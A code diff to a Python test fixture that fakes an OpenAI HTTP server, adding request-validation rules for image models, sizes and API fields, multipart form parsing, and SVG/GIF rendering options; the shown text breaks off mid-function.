@@ -1,9 +1,17 @@
-"""A fake OpenAI HTTP server for tests: Responses API with the image_generation tool, plus Files and the model list.
+"""A fake OpenAI HTTP server for tests: the Responses API with the image_generation tool, the Images API
+(``images.generate`` and ``images.edit``), Files and the model list.
 
 Tests start it on 127.0.0.1 (random port) and point the real ``openai`` SDK at ``base_url``.
-It renders real images with Pillow, streams the same SSE event sequence as the real API,
-stores responses for ``previous_response_id``, and can inject errors and odd outcomes on demand
-(``fail_next``, ``queue_outcome``, ``expire_responses``, ``latency``).
+It checks every request the way the real API does, by its own rules written from the installed SDK's request
+types (see "the API's rules" below; it imports nothing from the project, so a wrong product rule fails a test):
+a field the SDK's types do not have answers 400 ``unknown_parameter``, a value they do not allow (a wrong
+Literal, an integer out of range, a wrong type) 400 with ``param`` naming the field (``tools[0].background``),
+a size or option the model does not take 400, and a retired model (``RETIRED_IMAGE_MODELS``) 404
+``model_not_found``. It renders real images with Pillow (also SVG documents and animated GIFs, for
+``output_format`` "svg" and "gif"), streams the same SSE event sequence as the real API,
+stores responses for ``previous_response_id`` (and their input items), and can inject errors and odd outcomes on
+demand (``fail_next``, ``queue_outcome``, ``expire_responses``, ``latency``, ``hostile_svg``). Every request
+received stays in ``requests``; ``response_requests`` and ``image_requests`` hand back their fields.
 Background responses (``"background": true``) run on their own clock in a daemon thread per response,
 independent of any HTTP connection: queued, then in progress, then done after ``render_seconds``. They can be
 streamed as they happen, retrieved (``GET /v1/responses/{id}``, also as a stream with ``starting_after``) and
@@ -16,8 +24,8 @@ on, answered or refused, is searched for the watched values in its request line,
 every payload the body carries (JSON strings, base64 data URLs and other base64 strings, multipart parts, gzip or
 deflate bodies), so a test can show that a secret never left the machine.
 Final images are flat-colour drawings (about 22 KB as PNG at 1024x1024) unless ``photo_like`` is set: then every
-final image is a photo-like picture (grain over smooth random shapes, about 1.6 MB as PNG at 1024x1024, in
-proportion at other sizes), as heavy to decode, preview and stream as a real one (``render_photo``).
+final PNG, WEBP or JPEG image is a photo-like picture (grain over smooth random shapes, about 1.6 MB as PNG at
+1024x1024, in proportion at other sizes), as heavy to decode, preview and stream as a real one (``render_photo``).
 
 Run ``python tests/fake_openai.py [--port N] [--latency S] [--render-seconds S] [--photo-like]`` to serve it in the foreground.
 """
@@ -27,6 +35,7 @@ from __future__ import annotations
 import argparse
 import base64
 import binascii
+import contextlib
 import dataclasses
 import email.parser
 import email.policy
@@ -53,35 +62,29 @@ from dataclasses import dataclass
 from functools import partial
 from http import HTTPStatus
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from pathlib import Path
 from typing import Any
-from urllib.parse import parse_qs, unquote, unquote_to_bytes, urlsplit
+from urllib.parse import parse_qsl, unquote, unquote_to_bytes, urlsplit
+from xml.sax.saxutils import escape
 
-from PIL import Image, ImageDraw, ImageFilter
-
-if __name__ == "__main__":
-    # Run as `python tests/fake_openai.py`, only tests/ is on sys.path; the size and option rules live at the root.
-    sys.path.insert(1, str(Path(__file__).resolve().parent.parent))
-
-import contextlib
-
-from openai_images import image_models
-from openai_images.errors import InvalidInput
+from PIL import Image, ImageDraw, ImageFilter, ImageOps
 
 __all__ = [
     "COMPLETION_WINDOWS",
     "DEFAULT_IMAGE_MODEL",
+    "HOSTILE_SVG",
+    "IMAGE_MODELS",
     "OUTCOME_KINDS",
+    "RETIRED_IMAGE_MODELS",
     "FakeOpenAI",
+    "FormFile",
     "Leak",
     "RecordedRequest",
+    "render_gif",
     "render_image",
     "render_photo",
+    "render_svg",
 ]
 
-# The tool's size, quality, background, format and moderation rules are image_models' rules, so the
-# fake refuses exactly what the server's own checks refuse (and nothing they let through).
-DEFAULT_IMAGE_MODEL = image_models.API_DEFAULT_IMAGE_MODEL
 OUTCOME_KINDS = frozenset(
     {
         "no_image",
@@ -95,7 +98,6 @@ OUTCOME_KINDS = frozenset(
         "forgotten",
     }
 )
-COMPLETION_WINDOWS = image_models.COMPLETION_WINDOWS
 _FINISHED = frozenset({"completed", "failed", "cancelled", "incomplete"})
 
 _PARTIAL_MAX_EDGE = 256
@@ -104,6 +106,7 @@ _BEARER_RE = re.compile(r"^Bearer\s+\S+")
 _RESPONSE_PATH_RE = re.compile(r"^/v1/responses/([^/]+)$")
 _CANCEL_PATH_RE = re.compile(r"^/v1/responses/([^/]+)/cancel$")
 _FILE_PATH_RE = re.compile(r"^/v1/files/([^/]+)(/content)?$")
+_INPUT_ITEMS_PATH_RE = re.compile(r"^/v1/responses/([^/]+)/input_items$")
 
 _DEFAULT_MESSAGES = {
     "insufficient_quota": "You exceeded your current quota, please check your plan and billing details.",
@@ -167,13 +170,519 @@ def _invalid(message: str, param: str | None, code: str | None = "invalid_value"
     return ApiError(400, message, code=code, param=param)
 
 
-def _choice(tool: dict[str, Any], name: str, default: str, allowed: tuple[str, ...], param: str, *, model: str | None = None) -> str:
-    """The tool's `name` setting (or its default) if it is one of `allowed`, else OpenAI's 400 for it."""
-    value = tool.get(name, default)
-    if value not in allowed:
-        where = f" for {model}" if model else ""
-        raise _invalid(f"Invalid {name} '{value}'{where}. Supported values: {', '.join(allowed)}.", f"{param}.{name}")
-    return value
+# --------------------------------------------------------------------------- the API's rules
+#
+# Written from the installed openai SDK's request types (paths below are under site-packages/openai/), never
+# taken from the project: the fake stands for the API the product is checked against, so a wrong product rule
+# fails a test instead of agreeing with itself. When the SDK changes, test_fake_openai.py compares these field
+# lists with the SDK's TypedDicts.
+
+# types/responses/tool_param.py, ImageGeneration.model: "Default: `gpt-image-2.6-sunburst`."
+DEFAULT_IMAGE_MODEL = "gpt-image-2.6-sunburst"
+# types/responses/tool_param.py (ImageGeneration.size) and types/image_generate_params.py (size): "The standard
+# sizes `1024x1024`, `1536x1024`, and `1024x1536` are supported by the GPT image models".
+STANDARD_SIZES = ("1024x1024", "1536x1024", "1024x1536")
+# The same docstrings, for the flexible-size models: "Width and height must both be divisible by 16 and the
+# requested aspect ratio must be between 1:3 and 3:1 ... the maximum supported resolution is `3840x2160`. The
+# requested size must also satisfy the model's current pixel and edge limits." The SDK gives no figures for those
+# limits; OpenAI's model page (https://developers.openai.com/api/docs/models/gpt-image-2) gives them: the longest
+# edge at most 3840 px, and between 655,360 and 8,294,400 (3840x2160) pixels in all.
+SIZE_STEP = 16
+MAX_ASPECT = 3
+MAX_EDGE = 3840
+# "the maximum supported resolution is `3840x2160`" (ImageGeneration.size): read as a box, so the short side is at most 2160.
+MAX_SHORT_EDGE = 2160
+MIN_PIXELS, MAX_PIXELS = 655_360, 3840 * 2160
+_BASE_QUALITIES = ("low", "medium", "high", "auto")
+# ImageGeneration.quality: "`gpt-image-2.5-sunburst` and `gpt-image-2.5-flare`, including their `2026-09-08`
+# snapshots, also support `xhigh` and `max`."
+_EXTRA_QUALITIES = ("xhigh", "max")
+
+
+@dataclass(frozen=True)
+class ModelRules:
+    """What one current image model accepts beyond the field types."""
+
+    flexible_sizes: bool  # any WIDTHxHEIGHT within the limits above, not only STANDARD_SIZES
+    qualities: tuple[str, ...]
+    markup: bool = False  # images.edit `markup`: "Supports GPT Image 2.5." (types/image_edit_params.py)
+
+
+_FIXED = ModelRules(flexible_sizes=False, qualities=_BASE_QUALITIES)
+_GPT_IMAGE_2 = ModelRules(flexible_sizes=True, qualities=_BASE_QUALITIES)
+_GPT_IMAGE_2_5 = ModelRules(flexible_sizes=True, qualities=_BASE_QUALITIES + _EXTRA_QUALITIES, markup=True)
+# The Literal model lists of types/image_model.py and ImageGeneration.model, less the retired ones below; the
+# flexible-size models are the ones the size docstrings name (the 2.6 models are not among them).
+IMAGE_MODELS: dict[str, ModelRules] = {
+    "gpt-image-2.6-sunburst": _FIXED,
+    "gpt-image-2.6-flare": _FIXED,
+    "gpt-image-2.5-sunburst": _GPT_IMAGE_2_5,
+    "gpt-image-2.5-sunburst-2026-09-08": _GPT_IMAGE_2_5,
+    "gpt-image-2.5-flare": _GPT_IMAGE_2_5,
+    "gpt-image-2.5-flare-2026-09-08": _GPT_IMAGE_2_5,
+    "gpt-image-2": _GPT_IMAGE_2,
+    "gpt-image-2-2026-04-21": _GPT_IMAGE_2,
+}
+_SHUT_DOWN_DEC_2026 = "It was shut down on December 1, 2026. Use gpt-image-2.6-sunburst or gpt-image-2.6-flare instead."
+# Answered 404 model_not_found. gpt-image-1 and DALL·E: the "Deprecated values" of types/image_model.py. The other
+# three are still listed by the SDK (3.63) but were shut down on 2026-12-01, as OpenAI's deprecations page
+# (https://developers.openai.com/api/docs/deprecations) announced.
+RETIRED_IMAGE_MODELS: dict[str, str] = {
+    "gpt-image-1": "GPT Image 1 was shut down on October 23, 2026. Use gpt-image-2.5-sunburst or gpt-image-2.5-flare instead.",
+    "gpt-image-1.5": _SHUT_DOWN_DEC_2026,
+    "gpt-image-1-mini": _SHUT_DOWN_DEC_2026,
+    "chatgpt-image-latest": _SHUT_DOWN_DEC_2026,
+    "dall-e-2": "This model was retired on May 12, 2026. Use a GPT image model instead.",
+    "dall-e-3": "This model was retired on May 12, 2026. Use a GPT image model instead.",
+}
+
+BACKGROUNDS = ("transparent", "opaque", "auto")
+COMPLEXITIES = ("low", "medium", "high")
+MODERATIONS = ("auto", "low")
+OUTPUT_FORMATS = ("png", "webp", "jpeg", "gif", "svg")
+QUALITIES = _BASE_QUALITIES + _EXTRA_QUALITIES
+EFFORTS = ("none", "minimal", "low", "medium", "high", "xhigh", "max")  # ImageGenerationSvgReasoning.effort
+# The Images API without `svg.model`: "the default SVG author is used" (unnamed in the SDK; the fake's name).
+DEFAULT_SVG_AUTHOR = "default-svg-author"
+# GIF: frame_count "Accepts integers from 2 through 16. Defaults to 9"; frame_duration_ms "Defaults to 200 ...
+# rounds to the nearest 10 ms and caps the encoded delay at 655,350 ms per frame" (types/image_generate_params.py).
+GIF_FRAMES = (2, 16)
+DEFAULT_GIF_FRAMES, DEFAULT_GIF_FRAME_MS, MAX_GIF_FRAME_MS = 9, 200, 655_350
+# types/responses/response_create_params.py, BackgroundOptions.completion_window.
+COMPLETION_WINDOWS = ("soonest", "2h", "8h")
+MAX_PROMPT_CHARS = 32_000  # images.generate/edit `prompt`: "The maximum length is 32000 characters."
+MAX_EDIT_IMAGES = 16  # images.edit `image`: "You can provide up to 16 images", each "less than 50MB"
+MAX_EDIT_IMAGE_BYTES, MAX_MASK_BYTES = 50 * 1024 * 1024, 4 * 1024 * 1024  # mask: "less than 4MB"
+# types/responses/response_includable.py, ResponseIncludable.
+INCLUDABLE = (
+    "file_search_call.results",
+    "web_search_call.results",
+    "web_search_call.action.sources",
+    "message.input_image.image_url",
+    "computer_call_output.output.image_url",
+    "code_interpreter_call.outputs",
+    "reasoning.encrypted_content",
+    "message.output_text.logprobs",
+)
+# The `type` of each member of ToolParam (types/responses/tool_param.py and the *_tool_param.py files it names).
+TOOL_TYPES = (
+    "function",
+    "file_search",
+    "computer",
+    "computer_use_preview",
+    "web_search",
+    "web_search_2025_08_26",
+    "mcp",
+    "code_interpreter",
+    "programmatic_tool_calling",
+    "image_generation",
+    "local_shell",
+    "shell",
+    "custom",
+    "namespace",
+    "tool_search",
+    "web_search_preview",
+    "web_search_preview_2025_03_11",
+    "apply_patch",
+)
+
+
+@dataclass(frozen=True)
+class Rule:
+    """What one request field may hold, as its SDK TypedDict declares it.
+
+    ``kind`` is "str", "int", "number", "bool", "object", "array", "file" (a multipart file part) or "any"
+    (a union the fake does not check); ``fields`` are an object's own fields, checked just as strictly.
+    """
+
+    kind: str
+    choices: tuple[str, ...] = ()
+    low: float | None = None
+    high: float | None = None
+    max_length: int | None = None
+    nullable: bool = False  # Optional[...] in the SDK: null is allowed and means "not sent"
+    fields: dict[str, Rule] | None = None
+    items: Rule | None = None
+
+
+def _text(*choices: str, nullable: bool = False, max_length: int | None = None) -> Rule:
+    return Rule("str", choices=choices, nullable=nullable, max_length=max_length)
+
+
+def _integer(low: int | None = None, high: int | None = None, *, nullable: bool = False) -> Rule:
+    return Rule("int", low=low, high=high, nullable=nullable)
+
+
+def _number(low: float, high: float, *, nullable: bool = False) -> Rule:
+    return Rule("number", low=low, high=high, nullable=nullable)
+
+
+def _flag(*, nullable: bool = False) -> Rule:
+    return Rule("bool", nullable=nullable)
+
+
+def _object(fields: dict[str, Rule] | None = None, *, nullable: bool = False) -> Rule:
+    return Rule("object", fields=fields, nullable=nullable)
+
+
+_ANY = Rule("any")
+_FILE = Rule("file")
+
+# types/responses/tool_param.py, ImageGenerationSvg and ImageGenerationSvgReasoning (the Images API's Svg and
+# SvgReasoning in types/image_generate_params.py and types/image_edit_params.py have the same fields).
+SVG_FIELDS = {"model": _text(), "reasoning": _object({"effort": _text(*EFFORTS, nullable=True)}, nullable=True)}
+# types/responses/tool_param.py, ImageGeneration: partial_images "from 0 (default value) to 3". The ranges of
+# frame_count (2-16) and output_compression ("0-100%") are the Images API's: the tool's docstrings give only defaults.
+IMAGE_TOOL_FIELDS: dict[str, Rule] = {
+    "type": _text("image_generation"),
+    "action": _text("generate", "edit", "auto"),
+    "background": _text(*BACKGROUNDS),
+    "complexity": _text(*COMPLEXITIES),
+    "frame_count": _integer(*GIF_FRAMES),
+    "frame_duration_ms": _integer(0),
+    "input_fidelity": _text("high", "low", nullable=True),
+    "input_image_mask": _object({"file_id": _text(), "image_url": _text()}),
+    "model": _text(),
+    "moderation": _text(*MODERATIONS),
+    "output_compression": _integer(0, 100),
+    "output_format": _text(*OUTPUT_FORMATS),
+    "partial_images": _integer(0, 3),
+    "quality": _text(*QUALITIES),
+    "size": _text(),
+    "svg": _object(SVG_FIELDS),
+}
+# types/responses/response_create_params.py, ResponseCreateParamsBase plus `stream`. The fields the fake does
+# not act on are only checked for their outer type ("any" for unions of a string and an object).
+RESPONSE_CREATE_FIELDS: dict[str, Rule] = {
+    "access_programs": _object({"cyber": _text("standard", "daybreak_blue", "daybreak_red")}),
+    "background": _flag(nullable=True),
+    "background_options": _object({"completion_window": _text(*COMPLETION_WINDOWS), "continuation_id": _text()}),
+    "context_management": Rule("array", nullable=True),
+    "conversation": _ANY,
+    "image": _object({"context_compression": _text("auto", "enabled", "disabled")}),
+    "include": Rule("array", nullable=True, items=_text(*INCLUDABLE)),
+    "input": _ANY,  # a string or a list of items: _read_input checks it
+    "instructions": _text(nullable=True),
+    "max_output_tokens": _integer(nullable=True),
+    "max_tool_calls": _integer(nullable=True),
+    "metadata": _object(nullable=True),  # "16 key-value pairs", keys up to 64 and values up to 512 characters
+    "model": _text(),
+    "moderation": _object(nullable=True),
+    "parallel_tool_calls": _flag(nullable=True),
+    "previous_response_id": _text(nullable=True),
+    "prompt": _object(nullable=True),
+    "prompt_cache_key": _text(nullable=True),
+    "prompt_cache_options": _object(),
+    "prompt_cache_retention": _text("in_memory", "24h", nullable=True),
+    "reasoning": _object(nullable=True),
+    # "a maximum length of 128 characters"
+    "safety_identifier": _text(nullable=True, max_length=128),
+    "service_tier": _text("auto", "default", "flex", "scale", "priority", "fast", "ultrafast", nullable=True),
+    "store": _flag(nullable=True),
+    "stream": _flag(nullable=True),
+    "stream_options": _object({"include_obfuscation": _flag()}, nullable=True),
+    "temperature": _number(0, 2, nullable=True),  # "between 0 and 2"
+    "text": _object(),
+    "tool_choice": _ANY,
+    "tools": Rule("array"),  # each tool: _read_tools
+    "top_logprobs": _integer(0, 20, nullable=True),  # "An integer between 0 and 20"
+    "top_p": _number(0, 1, nullable=True),
+    "truncation": _text("auto", "disabled", nullable=True),
+    "user": _text(),
+}
+# The Images API: types/image_generate_params.py (ImageGenerateParamsBase plus `stream`) and
+# types/image_edit_params.py (ImageEditParamsBase plus `stream`), which sends them as multipart form fields.
+_IMAGES_COMMON: dict[str, Rule] = {
+    "prompt": _text(max_length=MAX_PROMPT_CHARS),
+    "background": _text(*BACKGROUNDS, nullable=True),
+    "complexity": _text(*COMPLEXITIES, nullable=True),
+    "frame_count": _integer(*GIF_FRAMES, nullable=True),
+    "frame_duration_ms": _integer(0, nullable=True),
+    "model": _text(nullable=True),
+    "n": _integer(1, 10, nullable=True),  # "Must be between 1 and 10."
+    "output_compression": _integer(0, 100, nullable=True),
+    "output_format": _text(*OUTPUT_FORMATS, nullable=True),
+    "partial_images": _integer(0, 3, nullable=True),
+    "response_format": _text("url", "b64_json", nullable=True),
+    "safety_identifier": _text(nullable=True),
+    "size": _text(nullable=True),
+    "stream": _flag(nullable=True),
+    "svg": _object(SVG_FIELDS, nullable=True),
+    "user": _text(),
+}
+IMAGE_GENERATE_FIELDS: dict[str, Rule] = {
+    **_IMAGES_COMMON,
+    "moderation": _text(*MODERATIONS, nullable=True),  # generate only: ImageEditParamsBase has no moderation
+    "quality": _text(*QUALITIES, "standard", "hd", nullable=True),
+    "style": _text("vivid", "natural", nullable=True),
+}
+IMAGE_EDIT_FIELDS: dict[str, Rule] = {
+    **_IMAGES_COMMON,
+    "image": Rule("array", items=_FILE),  # one file part `image`, or several `image[]`
+    "input_fidelity": _text("high", "low", nullable=True),
+    "markup": _FILE,
+    "mask": _FILE,
+    "quality": _text(*QUALITIES, "standard", nullable=True),
+}
+# types/responses/response_retrieve_params.py and input_item_list_params.py: query parameters.
+RETRIEVE_FIELDS: dict[str, Rule] = {
+    "include": Rule("array", items=_text(*INCLUDABLE)),
+    "include_obfuscation": _flag(),
+    "starting_after": _integer(),
+    "stream": _flag(),
+}
+INPUT_ITEMS_FIELDS: dict[str, Rule] = {
+    "after": _text(),
+    "include": Rule("array", items=_text(*INCLUDABLE)),
+    "limit": _integer(1, 100),  # "Limit can range between 1 and 100, and the default is 20."
+    "order": _text("asc", "desc"),
+}
+# Items of `input` (types/responses/response_input_param.py): a message's fields, and its content parts'
+# (response_input_text_param.py, response_input_image_param.py, response_input_file_param.py, and the
+# output_text and refusal parts of an assistant message, response_output_message_param.py).
+_BREAKPOINT = _object({"mode": _text("explicit"), "ttl": _text("30m", "12h")})
+MESSAGE_FIELDS: dict[str, Rule] = {
+    "type": _text("message"),
+    "role": _text("user", "assistant", "system", "developer"),
+    "content": _ANY,
+    "status": _text("in_progress", "completed", "incomplete"),
+    "phase": _text("commentary", "final_answer", nullable=True),
+    "id": _text(),
+}
+CONTENT_PART_FIELDS: dict[str, dict[str, Rule]] = {
+    "input_text": {"type": _text(), "text": _text(), "prompt_cache_breakpoint": _BREAKPOINT},
+    "input_image": {
+        "type": _text(),
+        "detail": _text("low", "high", "auto", "original"),  # types/responses/image_detail.py
+        "file_id": _text(nullable=True),
+        "image_url": _text(nullable=True),
+        "prompt_cache_breakpoint": _BREAKPOINT,
+    },
+    "input_file": {
+        "type": _text(),
+        "detail": _text("auto", "low", "high"),
+        "file_data": _text(),
+        "file_id": _text(nullable=True),
+        "file_url": _text(),
+        "filename": _text(),
+        "prompt_cache_breakpoint": _BREAKPOINT,
+    },
+    "output_text": {"type": _text(), "text": _text(), "annotations": Rule("array"), "logprobs": Rule("array")},
+    "refusal": {"type": _text(), "refusal": _text()},
+}
+
+_KIND_NAMES = {
+    "str": "a string",
+    "int": "an integer",
+    "number": "a number",
+    "bool": "a boolean",
+    "object": "an object",
+    "array": "an array",
+    "file": "a file",
+}
+
+
+def _type_name(value: Any) -> str:
+    if value is None:
+        return "null"
+    if isinstance(value, bool):
+        return "a boolean"
+    if isinstance(value, int):
+        return "an integer"
+    if isinstance(value, float):
+        return "a number"
+    if isinstance(value, str):
+        return "a string"
+    if isinstance(value, list):
+        return "an array"
+    if isinstance(value, dict):
+        return "an object"
+    return "a file"
+
+
+def _listed(values: tuple[str, ...]) -> str:
+    quoted = [f"'{value}'" for value in values]
+    return quoted[0] if len(quoted) == 1 else ", ".join(quoted[:-1]) + f", and {quoted[-1]}"
+
+
+def _join(where: str, key: str | int) -> str:
+    if isinstance(key, int):
+        return f"{where}[{key}]"
+    return f"{where}.{key}" if where else key
+
+
+def check_fields(body: dict[str, Any], rules: dict[str, Rule], where: str = "") -> None:
+    """OpenAI's 400 for the first field of ``body`` that ``rules`` do not name, or whose value they do not allow.
+
+    ``where`` is the JSON path of ``body`` in the request (``"tools[0]"``), so ``param`` names the field exactly.
+    """
+    for key, value in body.items():
+        param = _join(where, key)
+        rule = rules.get(key)
+        if rule is None:
+            raise _invalid(f"Unknown parameter: '{param}'.", param, "unknown_parameter")
+        check_value(value, rule, param)
+
+
+def check_value(value: Any, rule: Rule, param: str) -> None:
+    """OpenAI's 400 when ``value`` is not of ``rule``'s type, not one of its choices, or outside its range."""
+    if rule.kind == "any" or (value is None and rule.nullable):
+        return
+    matches = {
+        "str": isinstance(value, str),
+        "int": isinstance(value, int) and not isinstance(value, bool),
+        "number": isinstance(value, (int, float)) and not isinstance(value, bool),
+        "bool": isinstance(value, bool),
+        "object": isinstance(value, dict),
+        "array": isinstance(value, list),
+        "file": isinstance(value, FormFile),
+    }[rule.kind]
+    if not matches:
+        raise _invalid(
+            f"Invalid type for '{param}': expected {_KIND_NAMES[rule.kind]}, but got {_type_name(value)} instead.",
+            param,
+            "invalid_type",
+        )
+    if rule.choices and value not in rule.choices:
+        raise _invalid(f"Invalid value: '{value}'. Supported values are: {_listed(rule.choices)}.", param)
+    if rule.max_length is not None and len(value) > rule.max_length:
+        raise _invalid(
+            f"Invalid '{param}': string too long. Expected a string with maximum length {rule.max_length}, "
+            f"but got a string with length {len(value)} instead.",
+            param,
+            "string_above_max_length",
+        )
+    if rule.kind in ("int", "number"):
+        unit = "integer" if rule.kind == "int" else "decimal"
+        if rule.low is not None and value < rule.low:
+            raise _invalid(
+                f"Invalid '{param}': {unit} below minimum value. Expected a value >= {rule.low:g}, but got {value} instead.",
+                param,
+                f"{unit}_below_min_value",
+            )
+        if rule.high is not None and value > rule.high:
+            raise _invalid(
+                f"Invalid '{param}': {unit} above maximum value. Expected a value <= {rule.high:g}, but got {value} instead.",
+                param,
+                f"{unit}_above_max_value",
+            )
+    if rule.fields is not None:
+        check_fields(value, rule.fields, param)
+    if rule.items is not None:
+        for index, item in enumerate(value):
+            check_value(item, rule.items, _join(param, index))
+
+
+def check_metadata(metadata: Any, param: str = "metadata") -> None:
+    """``metadata``: "16 key-value pairs ... Keys ... a maximum length of 64 characters. Values ... 512"."""
+    if not isinstance(metadata, dict):
+        return
+    if len(metadata) > 16:
+        raise _invalid(f"Invalid '{param}': too many properties. Expected at most 16, but got {len(metadata)}.", param)
+    for key, value in metadata.items():
+        check_value(key, _text(max_length=64), f"{param}.{key}")
+        check_value(value, _text(max_length=512), f"{param}.{key}")
+
+
+@dataclass(frozen=True)
+class FormFile:
+    """A file part of a multipart request, as ``image_requests`` hands it back."""
+
+    filename: str | None
+    content_type: str | None
+    data: bytes
+
+
+def _form_value(text: str, rule: Rule | None, param: str) -> Any:
+    """A multipart text field in the type its rule expects (forms carry every value as text)."""
+    if rule is None or rule.kind in ("str", "any"):
+        return text
+    if rule.kind == "int":
+        try:
+            return int(text)
+        except ValueError:
+            raise _invalid(f"Invalid type for '{param}': expected an integer, but got a string instead.", param, "invalid_type") from None
+    if rule.kind == "number":
+        try:
+            return float(text)
+        except ValueError:
+            raise _invalid(f"Invalid type for '{param}': expected a number, but got a string instead.", param, "invalid_type") from None
+    if rule.kind == "bool" and text.lower() in ("true", "false"):
+        return text.lower() == "true"
+    return text  # a string where an object, a file or a boolean belongs: check_value says so
+
+
+def form_body(parts: list[tuple[str, FormFile | str]], rules: dict[str, Rule]) -> dict[str, Any]:
+    """A multipart form as the JSON body it stands for: ``svg[reasoning][effort]`` nests, ``image[]`` collects."""
+    body: dict[str, Any] = {}
+    for name, value in parts:
+        keys = re.findall(r"[^\[\]]+|\[\]", name) or [name]
+        collect = keys[-1] == "[]"
+        keys = [key for key in keys if key != "[]"] or [name]
+        node, node_rules = body, rules
+        for key in keys[:-1]:
+            rule = node_rules.get(key)
+            node = node.setdefault(key, {})
+            if not isinstance(node, dict):
+                raise _invalid(f"Invalid form field '{name}'.", ".".join(keys), "invalid_type")
+            node_rules = (rule.fields if rule else None) or {}
+        last = keys[-1]
+        rule = node_rules.get(last)
+        param = ".".join(keys)
+        converted = value if isinstance(value, FormFile) else _form_value(value, rule, param)
+        if collect or (rule is not None and rule.kind == "array"):
+            node.setdefault(last, []).append(converted)
+        else:
+            node[last] = converted
+    return body
+
+
+def _query_body(query: str, rules: dict[str, Rule]) -> dict[str, Any]:
+    """A query string as the parameters it stands for (``include[]=a&include[]=b`` a list), checked like a body."""
+    body = form_body(list(parse_qsl(query, keep_blank_values=True)), rules)
+    check_fields(body, rules)
+    return body
+
+
+def _form_parts(request: RecordedRequest) -> list[tuple[str, FormFile | str]]:
+    """The parts of a multipart/form-data body in order: a file part as a FormFile, any other as its text."""
+    content_type = request.headers.get("content-type", "")
+    # The email package parses MIME multipart bodies; prepend the header it needs.
+    raw = b"Content-Type: " + content_type.encode("latin-1") + b"\r\nMIME-Version: 1.0\r\n\r\n" + request.body
+    message = email.parser.BytesParser(policy=email.policy.HTTP).parsebytes(raw)
+    if not message.is_multipart():
+        raise _invalid("Could not parse the multipart body.", None, None)
+    parts: list[tuple[str, FormFile | str]] = []
+    for part in message.iter_parts():
+        name = part.get_param("name", header="content-disposition")
+        payload = part.get_payload(decode=True)
+        if not isinstance(name, str) or not isinstance(payload, bytes):
+            continue
+        filename = part.get_filename()
+        if filename is None:
+            parts.append((name, payload.decode("utf-8", "replace")))
+        else:
+            parts.append((name, FormFile(filename, part.get_content_type(), payload)))
+    return parts
+
+
+def _input_items(value: Any) -> list[dict[str, Any]]:
+    """A request's ``input`` as the input items OpenAI lists for its response, each with an id, oldest first."""
+    if value is None:
+        return []
+    if isinstance(value, str):
+        value = [{"role": "user", "content": value}]
+    items = []
+    for sent in value:
+        item = dict(sent, type=sent.get("type", "message"))
+        if item["type"] == "message":
+            if isinstance(item.get("content"), str):
+                part = "output_text" if item.get("role") == "assistant" else "input_text"
+                item["content"] = [{"type": part, "text": item["content"], **({"annotations": []} if part == "output_text" else {})}]
+            item.setdefault("status", "completed")
+        item.setdefault("id", _new_id("msg_" if item["type"] == "message" else "item_"))
+        items.append(item)
+    return items
 
 
 @dataclass
@@ -184,7 +693,7 @@ class _Outcome:
 
 @dataclass
 class _ImageSpec:
-    """The image_generation tool's settings, validated and with defaults resolved."""
+    """The image settings of a request (the image_generation tool's, or an Images API call's), checked, with defaults."""
 
     width: int
     height: int
@@ -196,10 +705,142 @@ class _ImageSpec:
     partial_images: int
     action: str
     model: str
+    frame_count: int = DEFAULT_GIF_FRAMES
+    frame_ms: int = DEFAULT_GIF_FRAME_MS
+    svg_author: str | None = None  # the model that writes an SVG result
+    svg_effort: str | None = None
 
     @property
     def size(self) -> str:
         return f"{self.width}x{self.height}"
+
+
+def image_model_rules(model: str, param: str) -> ModelRules:
+    """A current model's rules; 404 model_not_found for a retired one, 400 for a name the SDK does not list."""
+    retired = re.sub(r"-\d{4}-\d{2}-\d{2}$", "", model)  # a dated snapshot went with its model
+    if retired in RETIRED_IMAGE_MODELS:
+        raise ApiError(
+            404,
+            f"The model `{model}` does not exist or you do not have access to it. {RETIRED_IMAGE_MODELS[retired]}",
+            code="model_not_found",
+            param=param,
+        )
+    rules = IMAGE_MODELS.get(model)
+    if rules is None:
+        raise _invalid(f"Invalid value: '{model}'. Supported values are: {_listed(tuple(IMAGE_MODELS))}.", param)
+    return rules
+
+
+def accepted_sizes(model: str, rules: ModelRules) -> str:
+    """What sizes ``model`` accepts, in one sentence for an error message."""
+    if not rules.flexible_sizes:
+        return f"{model} accepts {', '.join(STANDARD_SIZES)} or auto"
+    return (
+        f"{model} accepts auto or WIDTHxHEIGHT with both sides divisible by {SIZE_STEP}, an aspect ratio between "
+        f"1:{MAX_ASPECT} and {MAX_ASPECT}:1, no side over {MAX_EDGE} and {MIN_PIXELS:,} to {MAX_PIXELS:,} pixels in all"
+    )
+
+
+def size_problem(width: int, height: int) -> str | None:
+    """The first limit of the flexible-size models that ``width`` x ``height`` breaks, or None."""
+    if width <= 0 or height <= 0:
+        return "both sides must be positive"
+    if width % SIZE_STEP or height % SIZE_STEP:
+        return f"both sides must be divisible by {SIZE_STEP}"
+    if max(width, height) > MAX_ASPECT * min(width, height):
+        return f"the aspect ratio must be between 1:{MAX_ASPECT} and {MAX_ASPECT}:1"
+    if max(width, height) > MAX_EDGE:
+        return f"no side may be over {MAX_EDGE} pixels"
+    if width * height < MIN_PIXELS:
+        return f"it has {width * height:,} pixels, fewer than the {MIN_PIXELS:,} needed"
+    if width * height > MAX_PIXELS:
+        return f"it has {width * height:,} pixels, more than the {MAX_PIXELS:,} allowed"
+    if min(width, height) > MAX_SHORT_EDGE:
+        return f"the largest size is {MAX_EDGE}x{MAX_SHORT_EDGE} (or {MAX_SHORT_EDGE}x{MAX_EDGE})"
+    return None
+
+
+def image_size(size: str, model: str, param: str) -> tuple[int, int]:
+    """The (width, height) that ``size`` asks of ``model`` ("auto" renders 1024x1024), or OpenAI's 400."""
+    rules = image_model_rules(model, param)
+    if size == "auto":
+        return 1024, 1024
+    match = re.fullmatch(r"(\d{1,5})x(\d{1,5})", size)
+    if match is None:
+        raise _invalid(f"Invalid size '{size}'. {accepted_sizes(model, rules)}.", param)
+    width, height = int(match.group(1)), int(match.group(2))
+    if size in STANDARD_SIZES:
+        return width, height
+    if not rules.flexible_sizes:
+        raise _invalid(f"Invalid size '{size}'. {accepted_sizes(model, rules)}.", param)
+    problem = size_problem(width, height)
+    if problem is not None:
+        raise _invalid(f"Invalid size '{size}': {problem}. {accepted_sizes(model, rules)}.", param)
+    return width, height
+
+
+def image_spec(settings: dict[str, Any], *, where: str, model: str, mask_param: str | None, svg_author: str) -> _ImageSpec:
+    """Check the settings the SDK types cannot: the ones that depend on the model or on each other.
+
+    ``settings`` has passed ``check_fields``; ``where`` is its JSON path ("tools[0]", or "" for the Images API);
